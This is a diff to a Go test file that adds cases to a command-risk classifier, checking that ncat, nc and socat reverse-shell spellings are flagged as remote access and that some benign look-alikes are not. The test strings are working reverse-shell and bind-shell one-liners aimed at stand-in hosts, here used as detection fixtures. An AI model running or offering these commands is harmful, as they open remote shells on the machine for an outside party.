@@ -360,6 +360,19 @@ func TestCatalogue(t *testing.T) {
 		{"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", w("remote-access")},
 		{"sh -i 2>&1 | nc x.example 4444", w("remote-access")},
 		{"socat TCP:10.0.0.1:4444 EXEC:/bin/bash", w("remote-access")},
+		// netcat's exec options, read through the entries in every
+		// spelling and route.
+		{"ncat --exe /bin/sh 10.0.0.1 4444", w("remote-access")},
+		{"ncat --exec=/bin/sh 10.0.0.1 4444", w("remote-access")},
+		{"ncat --sh-e 'sh -i' 10.0.0.1 4444", w("remote-access")},
+		{"sudo ncat -e /bin/sh 10.0.0.1 4444", w("privilege", "remote-access")},
+		{"/usr/bin/ncat -lvnp4444 -e/bin/sh", w("remote-access")},
+		{"nc 10.0.0.1 4444 -c 'sh -i'", w("remote-access")},
+		{"nc -lvnp 4444 --exec /bin/bash", w("remote-access")},
+		{"nc.traditional -lvnpe 4444", nil},  // -p takes the port: e is its value
+		{"telnet -e x mail.example 25", nil}, // -e is the escape character
+		{"socat -d -d TCP:10.0.0.1:4444 SYSTEM:'sh -i'", w("remote-access")},
+		{"socat -b 8192 TCP-LISTEN:8080 TCP:localhost:3000", nil},
 		{"ngrok http 3000", w("remote-access")},
 		{"ssh -L 5432:localhost:5432 bastion && nc -zv localhost 5432", nil},
 		// cloud, containers, publishing (R13)
